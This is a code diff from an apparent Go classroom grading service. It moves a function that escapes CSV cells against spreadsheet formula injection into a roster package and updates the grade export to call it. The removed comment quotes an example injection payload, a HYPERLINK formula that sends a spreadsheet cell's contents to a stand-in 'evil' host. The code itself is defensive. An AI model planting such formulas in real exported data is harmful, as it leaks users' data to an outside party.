@@ -14,6 +14,7 @@ import (
 	"sync"
 	"time"
 
+	"github.com/classroomd/classroomd/internal/roster"
 	"github.com/classroomd/classroomd/internal/store"
 )
 
@@ -292,27 +293,13 @@ func WriteGrades(w io.Writer, rows []ExportRow, format string) error {
 		cw := csv.NewWriter(w)
 		cw.Write(ExportColumns)
 		for _, r := range rows {
-			cw.Write([]string{r.Username, spreadsheetText(r.FullName), spreadsheetText(r.Email), strconv.FormatFloat(r.Score, 'f', -1, 64), strconv.FormatFloat(r.MaxScore, 'f', -1, 64),
+			cw.Write([]string{r.Username, roster.SpreadsheetText(r.FullName), roster.SpreadsheetText(r.Email), strconv.FormatFloat(r.Score, 'f', -1, 64), strconv.FormatFloat(r.MaxScore, 'f', -1, 64),
 				strconv.FormatBool(r.Late), r.SubmittedAt, r.Receipt, r.Status})
 		}
 		cw.Flush()
 		return cw.Error()
 	}
 	return fmt.Errorf("unknown format %q: use csv or json", format)
-}
-
-// spreadsheetText keeps a cell from being read as a formula when the CSV is
-// opened in a spreadsheet (CSV injection: a full name such as
-// =HYPERLINK("http://evil/?"&A2,"grades") would run in the grader's
-// spreadsheet): a cell starting with =, +, -, @, a tab or a carriage return
-// gets a leading apostrophe, which spreadsheets take as "this is text" and
-// do not show (OWASP's advice). Only the columns people type go through it;
-// numbers stay numbers.
-func spreadsheetText(s string) string {
-	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
-		return "'" + s
-	}
-	return s
 }
 
 // StudentGrade is what a student sees of one assignment's grade once its
